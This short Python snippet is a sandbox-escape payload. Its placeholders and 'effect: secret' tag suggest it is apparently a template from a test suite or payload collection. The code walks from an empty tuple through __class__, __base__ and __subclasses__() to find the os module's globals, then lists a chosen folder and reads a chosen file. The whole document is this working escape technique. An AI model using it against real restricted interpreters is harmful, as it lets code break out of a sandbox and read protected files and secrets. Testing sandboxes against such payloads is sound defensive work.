# Walks from a literal to every class and from there to the module os.
# effect: secret
for each in ().__class__.__base__.__subclasses__():
    names = getattr(getattr(each, "__init__", None), "__globals__", None)
    if names and "listdir" in names and "open" in names:
        print(each, names["listdir"]("@FOLDER@"))
        descriptor = names["open"]("@FILE@", 0)
        print(names["read"](descriptor, 1000))
        break
